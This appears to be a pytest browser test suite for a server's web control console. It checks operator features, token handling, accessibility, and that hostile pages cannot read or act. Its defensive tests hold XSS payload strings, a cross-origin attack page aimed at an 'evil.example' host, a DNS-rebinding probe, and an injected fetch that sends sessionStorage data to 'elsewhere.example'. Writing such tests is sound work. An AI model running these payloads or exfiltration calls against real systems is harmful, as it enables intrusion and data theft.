"""The console in Chromium: what an operator sees and does, and what pages of strangers cannot do."""

import http.server
import json
import os
import re
import threading
import time

import httpx
import pytest

from support.http import PLAIN, Sse
from support.server import Server, quote
from support.wait import until

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</pre><svg onload=alert(1)>",
    "'\"><b>bold</b>",
    "javascript:alert(1)",
    "${alert(1)}{{7*7}}",
]
LARGE = "x" * 60_000
TOKENS = {
    "all": '["admin"]',
    "viewer": '["metrics"]',
    "desk": '["sessions", "graph"]\nprefixes = ["chat:"]',
}


def secret(name):
    return f"secret-of-{name}-0123456789"


@pytest.fixture(scope="module")
def server():
    server = Server("--drain-timeout", "5s")
    yield server
    server.stop()


@pytest.fixture
def guarded(start, tmp_path):
    """A server whose control listener needs a token."""
    tokens = tmp_path / "tokens.toml"
    tokens.write_text("".join(
        f'[[token]]\nname = "{name}"\nsecret = "{secret(name)}"\nrights = {rights}\n'
        for name, rights in TOKENS.items()
    ))
    tokens.chmod(0o600)
    return start("--control-tokens", tokens, token=secret("all"))


@pytest.fixture
def website():
    """A site of a stranger: pages by path, at any name that ends with `.example`."""
    pages = {}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = pages.get(self.path, "").encode()
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_):
            pass

    site = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=site.serve_forever)
    thread.start()
    pages["port"] = site.server_port
    yield pages
    site.shutdown()
    thread.join()
    site.server_close()


def fill(directory):
    """Fills the file system of a directory."""
    with open(directory / "filler", "wb") as file:
        try:
            while True:
                os.write(file.fileno(), b"x" * 4096)
        except OSError:
            pass


def open_console(page, server, fragment=""):
    page.goto("about:blank")
    page.goto(server.control_url + "/console" + fragment)


def open_live(page, server, fragment=""):
    open_console(page, server, fragment)
    page.wait_text("#state", "live")


def look_up(page, id):
    page.fill("#lookup-id", id)
    page.click("#lookup-form button")


class TestAtWork:
    """Without a token, on the machine of the server: it simply opens."""

    def test_shows_what_goes_on(self, page, server, name):
        me = name()
        with Sse(server, me):
            open_live(page, server)
            page.wait_text("#run", server.stats()["epoch"])
            until(lambda: "SSE" in page.text("#transports dt"), "transports")
            for _ in range(20):
                server.publish(me, "x")
            figures = "Object.fromEntries([...document.querySelectorAll('#figures > div')].map((one) => [one.children[0].textContent, one.children[1].textContent]))"
            until(lambda: page.evaluate(figures)["Sessions"] == "1", "counted")
            until(lambda: page.evaluate(figures)["Publishes / s"] not in ("–", "0"), "a rate")
            assert "event" in page.text("#history") and "in memory only" in page.text("#history")
            until(lambda: "No session" in page.text("#slowest"), "none is slow")
            assert not page.visible("#cluster"), "it is no node of a cluster"
            assert not page.visible("#token")

    def test_shows_refusals_by_reason(self, page, server):
        httpx.get(server.public_url + "/nowhere", **PLAIN)
        open_live(page, server)
        page.wait_text("#refusals", "request answered with an error")

    def test_shows_who_is_slow_and_looks_it_up(self, page, start):
        server = start("--stall-timeout", "60s", "--backlog-bytes", "256KiB")
        with Sse(server, "snail", receive_buffer=4096):
            until(lambda: server.publish("snail", LARGE)["written"] == 0, "full")
            open_live(page, server)
            until(lambda: page.texts("#slowest button.id") == ["snail"], "listed")
            assert "KiB" in page.text("#slowest")
            page.click("#slowest button.id")
            page.wait_text("#found-online", "online, 1 session")

    def test_looks_up_an_id(self, page, server, name):
        me, fan, star = name("me & co"), name("fan/ü"), name("star")
        server.subscribe(fan, me)
        server.subscribe(me, star)
        open_live(page, server)
        look_up(page, me)
        page.wait_text("#found-online", "not online")
        assert page.texts("#found-subscriptions button") == [star]
        assert page.texts("#found-subscribers button") == [fan]
        assert not page.visible("#close-sessions")
        with Sse(server, quote(me)), Sse(server, f"{quote(me)},{quote(star)}"):
            page.click("#refresh")
            page.wait_text("#found-online", "online, 2 sessions")
            assert page.texts("#found-sessions tbody tr td:first-child") == ["SSE", "SSE"]
            # An id in a list leads to itself, and Back leads back.
            page.click("#found-subscribers button")
            page.wait_text("#found-id", fan)
            page.evaluate("history.back()")
            page.wait_text("#found-id", me)
        # The address names what is looked up.
        address = page.evaluate("location.href")
        page.goto("about:blank")
        page.goto(address)
        page.wait_text("#found-id", me)

    def test_says_who_has_just_left_and_who_hides(self, page, start, name):
        server = start("--presence", "--presence-delay", "2s")
        me = name()
        open_live(page, server)
        with Sse(server, me):
            until(lambda: server.api.post("/v1/online", json=[me]).json()["online"], "online")
            look_up(page, me)
            page.wait_text("#found-online", "online, 1 session")
            assert server.api.put(f"/v1/presence/{me}", json={"hidden": True}).is_success
            page.click("#refresh")
            page.wait_text("#found-online", "online, 1 session; it hides")
        until(lambda: not server.sessions(me), "gone")
        page.click("#refresh")
        page.wait_text("#found-online", "online, no session here; it hides")
        until(lambda: not server.api.post("/v1/online", json=[me]).json()["online"], "offline")
        page.click("#refresh")
        page.wait_text("#found-online", "not online; it hides")
        page.goto("about:blank")

    def test_closes_sessions_after_it_has_asked(self, page, server, name):
        me = name()
        with Sse(server, me) as stream:
            open_live(page, server, f"#id={me}")
            page.wait_text("#found-online", "1 session")
            for no in (lambda: page.click("#confirm-no"), lambda: page.press("Escape")):
                page.click("#close-sessions")
                assert page.visible("#confirm") and me in page.text("#confirm-text")
                no()
                until(lambda: not page.visible("#confirm"), "closed")
                assert len(server.sessions(me)) == 1
            page.click("#close-sessions")
            page.click("#confirm-yes")
            page.wait_text("#lookup-said", "was closed")
            page.wait_text("#found-online", "not online")
            until(lambda: not server.sessions(me), "closed")
            del stream

    def test_publishes_and_shows_the_receipt(self, page, server, name):
        me, fan = name(), name("fan")
        server.subscribe(fan, me)
        with Sse(server, me) as own, Sse(server, fan) as stream:
            open_live(page, server)
            page.fill("#publish-subject", me)
            page.fill("#publish-type", "note")
            page.fill("#publish-data", "ü & <b>")
            page.click("#publish-form button")
            page.wait_text("#receipt", "2 subscribers, 2 online; written to 2 sessions.")
            for reader in (own, stream):
                assert reader.event()[:2] == ("note", "ü & <b>")
            page.click("#publish-send")
            page.click("#publish-json")
            page.fill("#publish-data", '{"a": 1}')
            page.click("#publish-form button")
            page.wait_text("#receipt", "written to 1 session.")
            assert json.loads(own.event()[1]) == {"a": 1}
            page.fill("#publish-data", "{")
            page.click("#publish-form button")
            page.wait_text("#receipt p.bad", "JSON")
        page.complaints()  # The refusal is told to the console of the browser.

    def test_explains(self, page, server, name):
        star, fan = name("star"), name("fan")
        open_live(page, server)
        page.fill("#explain-subject", star)
        page.fill("#explain-subscriber", fan)
        page.click("#explain-form button")
        page.wait_text("#explained .verdict", "would not get")
        assert page.texts("#explained .prevents code") == ["no_edge", "not_online"]
        server.subscribe(fan, star)
        with Sse(server, fan):
            page.click("#explain-form button")
            page.wait_text("#explained .verdict", "at once on 1 session")
            assert page.texts("#explained .delivers code") == ["edge"]
            assert page.text("#explained tbody td:nth-child(3)") == "live"

    def test_shows_latency_where_the_server_measures_it(self, page, server, name):
        me = name()
        metrics = server.api.get("/metrics").text
        if "encke_delivery_latency_seconds_bucket" not in metrics:
            pytest.skip("the server has no histogram of latency")
        with Sse(server, me):
            open_live(page, server)
            for _ in range(50):
                server.publish(me, "x")
            page.wait_text("#latencies", "Publish to delivery")
            until(lambda: "99% ≤" in page.text("#latencies"), "drawn")

    def test_shows_the_disks_of_graph_and_history(self, page, start, tmp_path):
        server = start("--data", tmp_path / "data", "--history-dir", tmp_path / "history", env={"ENCKE_MEMORY": "false"})
        server.subscribe("alice", "rj")
        open_live(page, server)
        page.wait_text("#disks", "each")
        facts = "Object.fromEntries([...document.querySelectorAll('#disks dt')].map((one) => [one.textContent, one.nextSibling.textContent]))"
        assert "since the start" in page.evaluate(facts)["Graph on disk"]
        for number in range(3):
            server.subscribe(f"user-{number}", "rj")
        server.publish("rj", "hello")
        until(lambda: "3 commits in the last minute" in page.evaluate(facts)["Graph on disk"], "counted")
        until(lambda: "in the last minute" in page.evaluate(facts)["History on disk"], "its syncs too")
        shown = page.evaluate(facts)
        assert shown["Changes that wait"] == "0" and "Failed commits" not in shown, shown
        # The mean is what the server says.
        text = server.api.get("/metrics").text
        commits, seconds = (float(re.search(rf"^encke_store_{name}_total (\S+)", text, re.MULTILINE)[1]) for name in ("commits", "commit_seconds"))
        mean, unit = re.search(r", (\S+) (µs|ms|s) each", shown["Graph on disk"]).groups()
        mean = float(mean) * {"µs": 1e-6, "ms": 1e-3, "s": 1}[unit]
        assert commits >= 4 and 0 < mean < seconds
        page.goto("about:blank")

    def test_says_that_the_graph_is_not_on_a_disk_or_that_its_disk_fails(self, page, server, start, small_disk):
        open_live(page, server)
        page.wait_text("#disks", "in memory only")
        full = start("--data", small_disk / "data", env={"ENCKE_MEMORY": "false"})
        fill(small_disk)
        number = 0

        def refused():
            nonlocal number
            number += 1
            return full.api.put(f"/v1/subscriptions/{number}/rj").status_code == 507

        until(refused, "the disk is full", pause=0)
        open_live(page, full)
        page.wait_text("#disks", "Failed commits")
        assert page.text("#disks .bad") == "1"
        page.goto("about:blank")

    def test_asks_for_nothing_while_nobody_looks(self, page, server):
        open_live(page, server)
        until(lambda: "No session" in page.text("#slowest"), "all have begun")

        def requests():
            line = next(line for line in server.api.get("/metrics").text.splitlines() if line.startswith('encke_control_requests_total{token="local"}'))
            return float(line.split()[1])

        def asked():
            """Requests of the page in a time in which it would ask several times; one is that of this test."""
            before = requests()
            time.sleep(4.5)
            return requests() - before - 1

        assert asked() >= 2
        page.click("#pause")
        page.wait_text("#state", "paused")
        time.sleep(.5)
        assert asked() == 0
        page.click("#pause")
        page.wait_text("#state", "live")
        assert asked() >= 2
        page.evaluate("Object.defineProperty(document, 'hidden', { get: () => true, configurable: true })")
        time.sleep(.5)
        assert asked() == 0
        page.evaluate("delete document.hidden; document.dispatchEvent(new Event('visibilitychange'))")
        assert asked() >= 2

    def test_says_when_the_server_is_gone_and_comes_back(self, page, start, port):
        at = {"public": port().address, "control": port().address}
        first = start(**at)
        open_live(page, first)
        first.signal()
        assert first.wait() == 0
        page.wait_text("#state", "no answer")
        second = first.restart()
        try:
            page.wait_text("#state", "live")
            page.wait_text("#run", second.stats()["epoch"])
            page.goto("about:blank")
        finally:
            second.stop()
        page.complaints()  # Refused connections are told to the console of the browser.


class TestToken:
    def give(self, page, token):
        page.fill("#token-field", token)
        page.click("#token-form button")

    def test_is_asked_for_once_and_kept_in_the_tab(self, page, guarded):
        open_console(page, guarded, "#id=rj")
        page.wait_text("#state", "needs a token")
        assert page.visible("#token") and page.evaluate("document.activeElement.id") == "token-field"
        self.give(page, "short")
        page.wait_text("#token-said", "16")
        self.give(page, "wrong-0123456789abcdef")
        page.wait_text("#token-said", "does not know")
        self.give(page, secret("all"))
        page.wait_text("#state", "live")
        page.wait_text("#found-online", "not online")
        assert not page.visible("#token")
        page.reload()
        page.wait_text("#state", "live")
        assert secret("all") not in page.evaluate("location.href + document.cookie + JSON.stringify(localStorage)")
        assert page.evaluate("document.getElementById('token-field').value") == ""
        page.click("#forget")
        page.wait_text("#state", "needs a token")
        assert page.evaluate("JSON.stringify(sessionStorage)") == "{}"
        assert page.text("#found-id") == ""
        assert secret("all") not in guarded.log
        page.complaints()  # Answers of 401 are told to the console of the browser.

    def test_a_revoked_token_is_asked_for_again(self, page, guarded):
        open_console(page, guarded)
        page.wait_text("#state", "needs a token")
        self.give(page, secret("viewer"))
        page.wait_text("#state", "live")
        page.evaluate("sessionStorage.setItem('encke-control-token', 'x'.repeat(20))")
        page.reload()
        page.wait_text("#state", "needs a token")
        page.wait_text("#token-said", "does not know")
        page.complaints()

    def test_each_part_says_which_right_it_lacks(self, page, guarded):
        open_console(page, guarded)
        page.wait_text("#state", "needs a token")
        self.give(page, secret("viewer"))
        page.wait_text("#state", "live")
        page.wait_text("#slowest", "`sessions`")
        look_up(page, "rj")
        page.wait_text("#found-sessions", "`sessions`")
        page.wait_text("#found-subscribers", "`graph`")
        page.fill("#publish-subject", "rj")
        page.click("#publish-form button")
        page.wait_text("#receipt", "`publish`")
        page.evaluate("sessionStorage.clear()")
        open_console(page, guarded)
        page.wait_text("#state", "needs a token")
        self.give(page, secret("desk"))
        page.wait_text("#state", "limited rights")
        page.wait_text("#vitals-note", "`metrics`")
        look_up(page, "chat:1")
        page.wait_text("#found-online", "not online")
        look_up(page, "rj")
        page.wait_text("#found-sessions", "`chat:`")
        page.evaluate("sessionStorage.clear()")
        page.complaints()


class TestStrangers:
    """What pages of others can do with a control listener that needs no token: nothing."""

    @pytest.mark.parametrize("text", HOSTILE)
    def test_ids_and_payloads_are_text(self, page, server, name, text):
        me = name(text)
        server.subscribe(text, me)
        server.subscribe(me, text)
        with Sse(server, quote(me)):
            open_live(page, server)
            look_up(page, me)
            page.wait_text("#found-online", "online, 1 session")
            assert page.texts("#found-subscribers button") == [text]
            for field, value in (("#explain-subject", text), ("#explain-subscriber", me), ("#publish-subject", me), ("#publish-data", text), ("#publish-type", text[:20])):
                page.fill(field, value)
            page.click("#explain-form button")
            page.wait_text("#explained .verdict", f"`{me}` would get")
            page.click("#publish-form button")
            page.wait_text("#receipt", "written to 1 session")
            page.click("#close-sessions")
            assert me in page.text("#confirm-text")
            page.press("Escape")
            for element in ("img", "b b", "body script + script", "svg[onload]", "a[href^=javascript]"):
                assert page.evaluate(f"document.querySelectorAll('{element}').length") == 0, element
        server.unsubscribe(text, me)
        server.unsubscribe(me, text)

    def test_characters_that_deceive_are_named(self, page, server, name):
        me = name()
        twins = ["admin", "adm\u200bin", "\u202enimda", "admin\u00ad", "\u2066admin"]
        for twin in twins:
            server.subscribe(twin, me)
        open_live(page, server, f"#id={me}")
        until(lambda: len(page.texts("#found-subscribers button")) == len(twins), "listed")
        shown = page.texts("#found-subscribers button")
        assert sorted(shown) == sorted(["admin", "admU+200Bin", "U+202Enimda", "adminU+00AD", "U+2066admin"])
        assert page.evaluate("[...document.querySelectorAll('#found-subscribers button')].every((one) => one.dir === 'auto')")

    def test_a_page_of_another_origin_can_neither_read_nor_act(self, page, server, website, name):
        me = name()
        control = server.control_url
        website["/attack"] = f"""<!doctype html><meta charset=utf-8><title>attack</title>
            <iframe id=frame src="{control}/console"></iframe>
            <form id=form method=post target=sink action="{control}/v1/publish/{me}" enctype="text/plain"><input name=x value=y></form>
            <iframe name=sink></iframe>"""
        website["/sent"] = "<!doctype html><title>sent</title>"
        server.subscribe(me, "anything")
        before = server.stats()["published"]
        # Another port of the same host is another origin, and a name that leads here is another host.
        for host in ("127.0.0.1", "localhost", "evil.example"):
            page.goto(f"http://{host}:{website['port']}/attack")
            tried = page.evaluate(f"""(async () => {{
                const tried = [];
                const ask = (path, options) => fetch('{control}' + path, options)
                    .then(async (answer) => tried.push([path, answer.type, answer.status, (await answer.text()).length]))
                    .catch((error) => tried.push([path, error.name]));
                await ask('/v1/stats', {{}});
                await ask('/v1/stats', {{ mode: 'no-cors' }});
                await ask('/v1/publish/{me}', {{ method: 'POST', body: 'x' }});
                await ask('/v1/publish/{me}', {{ method: 'POST', body: 'x', mode: 'no-cors' }});
                await ask('/v1/subscriptions/{me}/anything', {{ method: 'DELETE' }});
                await ask('/console', {{}});
                await ask('/console', {{ mode: 'no-cors' }});
                document.getElementById('form').submit();
                const opened = window.open('{control}/console');
                await new Promise((done) => setTimeout(done, 1000));
                tried.push(['opened', !opened || opened.closed]);
                let inside = 'foreign';
                try {{ inside = document.getElementById('frame').contentDocument ? 'read' : 'foreign'; }} catch {{}}
                tried.push(['frame', inside]);
                return tried;
            }})()""")
            for path, *outcome in tried:
                readable = outcome[0] in ("basic", "cors", "default") or outcome[-1] not in (0, "TypeError", True, "foreign")
                assert not readable, (host, path, outcome)
        assert server.stats()["published"] == before, "nothing was published"
        assert server.api.get(f"/v1/subscriptions/{me}").json()["subscriptions"] == ["anything"]
        page.complaints()  # The browser says what it has refused.

    def test_the_page_is_in_no_frame(self, page, server, website):
        # A page of the same site, so that nothing but the policy keeps it out.
        website["/frame"] = f'<!doctype html><title>frame</title><iframe src="{server.control_url}/console"></iframe>'
        page.goto(f"http://127.0.0.1:{website['port']}/frame")
        until(lambda: any("frame-ancestors" in one or "frame" in one for one in page.complaints()), "refused")
        time.sleep(.2)
        page.complaints()  # A browser asks for an icon that the site does not have.

    def test_a_name_that_was_led_here_gets_a_page_without_data(self, page, server):
        """DNS rebinding: the attacker's name leads to this machine, so the browser takes all for one origin."""
        page.goto("about:blank")
        page.goto(f"http://evil.example:{server.control[1]}/console")
        page.wait_text("#vitals-note", "Host")
        tried = page.evaluate("""Promise.all([
            fetch('/v1/stats'), fetch('/metrics'), fetch('/v1/publish/a', { method: 'POST', body: 'x' }),
            fetch('/v1/sessions/a', { method: 'DELETE' }), fetch('/v1/explain?subject=a&subscriber=b'),
        ].map((one) => one.then((answer) => answer.status)))""")
        assert tried == [403] * 5
        page.complaints()

    def test_markup_and_scripts_that_are_put_in_do_nothing(self, page, server):
        """What a mistake in the page would let in: the policy lets none of it run."""
        open_live(page, server)
        page.evaluate("""(() => {
            window.ran = [];
            const tries = [
                () => { document.body.innerHTML += '<img src=x onerror="window.ran.push(1)">'; },
                () => { const script = document.createElement('script'); script.text = 'window.ran.push(2)'; document.body.append(script); },
                () => { const script = document.createElement('script'); script.src = '/v1/stats'; document.body.append(script); },
                () => { document.body.setAttribute('onclick', 'window.ran.push(3)'); document.body.click(); },
                () => { location.href = 'javascript:window.ran.push(4)'; },
                () => { fetch('https://elsewhere.example/?' + sessionStorage.length).then(() => window.ran.push(5)); },
            ];
            for (const one of tries) try { one(); } catch {}
        })()""")
        time.sleep(.5)
        assert page.evaluate("window.ran") == []
        assert page.complaints(), "the browser says what it has refused"


class TestForm:
    """How it looks and is operated."""

    CONTRAST = """(() => {
      const light = (rgb) => rgb.map((c) => c / 255)
        .map((c) => c <= .03928 ? c / 12.92 : ((c + .055) / 1.055) ** 2.4)
        .reduce((sum, c, at) => sum + c * [.2126, .7152, .0722][at], 0);
      const rgb = (text) => text.match(/[\\d.]+/g).map(Number);
      const ratio = (one, other) => {
        const [a, b] = [light(one.slice(0, 3)), light(other.slice(0, 3))];
        return (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
      };
      const ground = (element) => {
        for (; element; element = element.parentElement) {
          const color = rgb(getComputedStyle(element).backgroundColor);
          if (color.length === 3 || color[3] > 0) return color.slice(0, 3);
        }
        return [255, 255, 255];
      };
      const texts = [...document.querySelectorAll('body *')]
        .filter((element) => [...element.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim()))
        .filter((element) => element.checkVisibility() && !element.disabled)
        .map((element) => [ratio(rgb(getComputedStyle(element).color), ground(element)), 4.5, element.textContent.slice(0, 40)]);
      const fields = [...document.querySelectorAll('input, textarea, select')]
        .filter((element) => element.checkVisibility())
        .map((element) => [ratio(rgb(getComputedStyle(element).borderTopColor), ground(element.parentElement)), 3, element.id]);
      const style = getComputedStyle(document.documentElement);
      const probe = document.createElement('i');
      document.body.append(probe);
      const property = (name) => { probe.style.color = style.getPropertyValue(name); return rgb(getComputedStyle(probe).color); };
      const pairs = [];
      for (const ink of ['--ink', '--soft', '--accent', '--good', '--wait', '--bad'])
        for (const paper of ['--ground', '--sheet', '--well']) pairs.push([ink, paper]);
      pairs.push(['--on-accent', '--accent'], ['--on-bad', '--bad']);
      const properties = pairs.map(([a, b]) => [ratio(property(a), property(b)), 4.5, a + ' on ' + b]);
      probe.remove();
      const all = [...texts, ...fields, ...properties];
      return { checked: all.length, low: all.filter(([found, needed]) => found < needed) };
    })()"""

    @pytest.fixture
    def full(self, page, server, name):
        """The page with something in all of its parts."""
        me = name("x" * 90)
        server.subscribe(me, name("star"))
        with Sse(server, me):
            open_live(page, server, f"#id={me}")
            page.wait_text("#found-online", "online")
            for field in ("#explain-subject", "#explain-subscriber", "#publish-subject"):
                page.fill(field, me)
            page.click("#explain-form button")
            page.wait_text("#explained", "would get")
            page.click("#publish-form button")
            page.wait_text("#receipt", "written")
            yield page
        page.size(1280, 900)
        page.scheme("light")

    def test_contrast_is_enough_in_light_and_dark(self, full):
        for scheme in ("light", "dark"):
            full.scheme(scheme)
            found = full.evaluate(self.CONTRAST)
            assert found["low"] == [], scheme
            assert found["checked"] > 60, found["checked"]

    @pytest.mark.parametrize(("width", "height"), [(320, 640), (360, 740), (768, 1024), (1280, 900)])
    def test_fits_the_screen(self, full, width, height):
        full.size(width, height)
        assert full.evaluate("document.documentElement.scrollWidth") <= width

    def test_has_names_for_all_fields_and_roles_for_news(self, full):
        unlabelled = """[...document.querySelectorAll('input, textarea, select')]
            .filter((field) => !field.labels.length).map((field) => field.id)"""
        assert full.evaluate(unlabelled) == []
        nameless = """[...document.querySelectorAll('button')]
            .filter((one) => one.checkVisibility() && !one.textContent.trim()).length"""
        assert full.evaluate(nameless) == 0
        assert full.evaluate("[...document.querySelectorAll('section')].every((one) => one.ariaLabel || document.getElementById(one.getAttribute('aria-labelledby')))")
        for news in ("state", "explained", "receipt", "lookup-said"):
            assert full.evaluate(f"document.getElementById('{news}').getAttribute('role')") == "status", news
        assert full.evaluate("document.documentElement.lang") == "en"

    def test_is_operated_with_the_keyboard(self, page, server, name):
        me = name()
        with Sse(server, me):
            open_live(page, server)
            seen = []
            for _ in range(12):
                page.press("Tab")
                seen.append(page.evaluate("document.activeElement.id || document.activeElement.className"))
                outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
                assert outline not in ("none", ""), seen[-1]
                if seen[-1] == "lookup-id":
                    break
            assert seen[0] == "skip" and seen[-1] == "lookup-id", seen
            for letter in me:
                page.press("Minus" if letter == "-" else letter)
            page.press("Enter")
            page.wait_text("#found-online", "1 session")
            page.evaluate("document.getElementById('close-sessions').focus()")
            page.press("Enter")
            assert page.evaluate("document.activeElement.id") == "confirm-no", "the safe answer comes first"
            page.press("Tab")
            assert page.evaluate("document.activeElement.id") == "confirm-yes"
            page.press("Escape")
            assert len(server.sessions(me)) == 1


def test_where_it_is_said_at_the_start(server):
    assert f"console  {server.control_url}/console" in server.log
